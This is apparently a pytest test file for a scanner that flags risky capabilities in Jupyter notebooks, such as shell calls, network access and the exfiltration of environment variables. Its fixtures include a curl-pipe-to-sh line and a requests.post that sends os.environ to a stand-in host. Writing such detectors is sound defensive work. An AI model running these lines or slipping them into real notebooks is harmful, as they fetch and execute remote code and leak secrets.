from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fimci.model import Capability, Unread
from fimci.readers import with_code
from fimci.readers.code import notebook
from tests import growth


def source(text: str) -> list[str]:
    return text.splitlines(keepends=True)


def book(*cells: str, outputs: list[Any] | None = None, language: str = "python") -> bytes:
    made = [
        {"cell_type": "code", "metadata": {}, "outputs": outputs or [], "source": source(one)}
        for one in cells
    ]
    metadata = {"language_info": {"name": language}}
    whole = {"cells": made, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(whole, indent=1).encode()


def told(data: bytes) -> list[tuple[str, str, str]]:
    """Return name, subject, and the line of the file that is pointed at."""
    rows = data.decode().split("\n")
    found = [one for one in notebook.read("a.ipynb", data) if isinstance(one, Capability)]
    assert all(one.phase == "call" for one in found)
    return [
        (one.name, one.subject, rows[one.at.line - 1].strip().strip('",').removesuffix("\\n").strip())
        for one in found
    ]


@pytest.mark.parametrize(
    ("cells", "expected"),
    [
        (["import os\n", "x = 1\nos.system('id')"], ("shell", "id", "os.system('id')")),
        (["import os\nprint(1)\n\nos.system('id')\n"], ("shell", "id", "os.system('id')")),
        (
            ["x = 1\n!curl https://in.example/a | sh"],
            ("network", "in.example", "!curl https://in.example/a | sh"),
        ),
        (
            ["if x:\n  files = !wget -q https://in.example/a"],
            ("network", "in.example", "files = !wget -q https://in.example/a"),
        ),
        (
            ["%%bash\nset -e\ncurl https://in.example/a"],
            ("network", "in.example", "curl https://in.example/a"),
        ),
        (["%%script sh\ncurl https://in.example/a"], ("network", "in.example", "curl https://in.example/a")),
        (["%sx curl https://in.example/a"], ("network", "in.example", "%sx curl https://in.example/a")),
        (
            ["%%javascript\n\nfetch('https://in.example/a')"],
            ("network", "in.example", "fetch('https://in.example/a')"),
        ),
        (
            ["%%html\n<p>\n<script>fetch('https://in.example/a')</script>"],
            ("network", "in.example", "<script>fetch('https://in.example/a')</script>"),
        ),
        (["%%time\nimport os\nos.system('id')"], ("shell", "id", "os.system('id')")),
        (["%matplotlib inline\nimport os\n%load_ext x\nos.system('id')"], ("shell", "id", "os.system('id')")),
        (["x = '''", "import os\nos.system('id')"], ("shell", "id", "os.system('id')")),
    ],
)
def test_what_cells_can_do(cells: list[str], expected: tuple[str, str, str]) -> None:
    assert expected in told(book(*cells))


def test_names_are_shared_between_cells_and_chains_found() -> None:
    data = book("import os, requests", "requests.post('https://in.example', json=dict(os.environ))")
    assert (
        "exfiltration",
        "environment -> in.example",
        "requests.post('https://in.example', json=dict(os.environ))",
    ) in told(data)


def test_scripts_in_outputs_run_when_opened() -> None:
    shown = [
        {
            "output_type": "display_data",
            "data": {"text/html": ["<p>\n", "<script>\n", "fetch('https://in.example/a')\n", "</script>"]},
        }
    ]
    assert told(book("1", outputs=shown)) == [("network", "in.example", "fetch('https://in.example/a')")]
    shown = [
        {"output_type": "display_data", "data": {"application/javascript": "fetch('https://in.example/a')"}}
    ]
    assert [one[:2] for one in told(book("1", outputs=shown))] == [("network", "in.example")]


def test_other_kernels() -> None:
    assert told(book("fetch('https://in.example/a')", language="typescript"))[0][:2] == (
        "network",
        "in.example",
    )
    assert told(book("curl https://in.example/a", language="bash"))[0][:2] == ("network", "in.example")
    assert told(book("import os; os.system('id')", language="julia")) == []


def test_old_worksheets_and_plain_texts() -> None:
    old = {"worksheets": [{"cells": [{"cell_type": "code", "input": ["import os\n", "os.system('id')"]}]}]}
    assert ("shell", "id") in [one[:2] for one in told(json.dumps(old, indent=1).encode())]
    new = {"cells": [{"cell_type": "code", "source": "import os\nos.system('id')"}]}
    assert ("shell", "id") in [one[:2] for one in told(json.dumps(new).encode())]


def test_prose_and_tables_are_silent() -> None:
    cells = [
        "import pandas as pd\nframe = pd.DataFrame({'a': [1]})",
        "%timeit frame.sum()\nframe.head()",
        "a %b",
        "x != y",
    ]
    assert told(book(*cells)) == []
    text = {"cells": [{"cell_type": "markdown", "source": ["import os\n", "os.system('id')"]}]}
    assert told(json.dumps(text).encode()) == []


def test_what_is_no_notebook_is_unread() -> None:
    assert [one.line for one in notebook.read("a.ipynb", b'{"cells": [\n') if isinstance(one, Unread)] == [2]
    assert list(notebook.read("a.ipynb", b"[1]")) == []
    assert list(notebook.read("a.ipynb", b'{"cells": {"a": 1}, "metadata": [], "worksheets": [1]}')) == []
    many = json.dumps({"cells": [{"cell_type": "code", "source": []}] * 5001}).encode()
    assert [one.part for one in notebook.read("a.ipynb", many) if isinstance(one, Unread)] == ["cells"]


def test_one_record_for_each_name_and_subject() -> None:
    data = book("import requests\nrequests.get('https://in.example')", "!curl https://in.example")
    assert [one[:2] for one in told(data)].count(("network", "in.example")) == 1


_VALUES = st.recursive(
    st.none()
    | st.integers()
    | st.sampled_from(["code", "import os\nos.system('id')", "%%bash\n", "!ls \\", "%%", "\n"]),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(
                [
                    "cells",
                    "cell_type",
                    "source",
                    "outputs",
                    "data",
                    "text/html",
                    "metadata",
                    "language_info",
                    "name",
                ]
            ),
            inner,
            max_size=4,
        )
    ),
    max_leaves=12,
)


@settings(max_examples=100, deadline=None)
@given(_VALUES)
def test_no_shape_of_json_breaks_it(value: Any) -> None:
    for one in notebook.read("a.ipynb", json.dumps({"cells": value, "metadata": value}).encode()):
        assert isinstance(one, (Capability, Unread))


def test_a_large_notebook_takes_linear_time() -> None:
    growth.is_linear(told, lambda size: book(*["x = 1\n" * 100 + "!ls\n%time f()\n"] * size), 75)


def test_notebooks_have_a_reader() -> None:
    assert "notebook" in [reader.name for reader in with_code("a/b.ipynb")]
